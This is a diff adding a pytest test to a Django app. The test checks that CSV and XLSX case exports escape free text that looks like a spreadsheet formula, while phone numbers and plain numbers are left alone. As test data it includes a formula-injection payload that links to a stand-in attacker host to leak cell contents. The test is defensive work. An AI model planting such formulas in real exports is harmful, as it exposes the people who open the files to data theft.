@@ -202,6 +202,28 @@ def test_xlsx_export_has_the_same_rows(rep, cases):
     assert rows[3][3] == "João Conceição"
 
 
+@pytest.mark.parametrize("export", ["customers:case_export", "customers:case_export_xlsx"])
+def test_exported_text_that_looks_like_a_formula_stays_text(rep, export):
+    """OWASP CSV injection: free text starting with = + - @ is written with a leading quote; phones stay."""
+    customer = CustomerFactory(first_name='=HYPERLINK("http://evil.example/?"&A1,"Click")', last_name="")
+    CaseFactory(customer=customer, subject="@SUM(1+1)", topic="-2+3")
+    CaseFactory(customer=CustomerFactory(first_name="+5511912345678", last_name=""), subject="-12.5", topic="+4")
+
+    response = rep.get(reverse(export), {**ALL, "sort": "subject"})
+
+    if export.endswith("xlsx"):
+        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+        rows = [[cell.value for cell in row] for row in sheet.iter_rows()][1:]
+    else:
+        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))[1:]
+    cells = {(row[1], row[3], row[7]) for row in rows}
+    assert cells == {
+        ("'@SUM(1+1)", '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'-2+3"),
+        ("-12.5", "+5511912345678", "+4"),
+    }
+
+
 def test_the_cases_list_links_both_exports_with_its_filters(rep, cases):
     page = rep.get(reverse("customers:case_list"), {"topic": "x", "sort": "due"}).content.decode()
     assert f"{reverse('customers:case_export')}?topic=x&amp;sort=due" in page
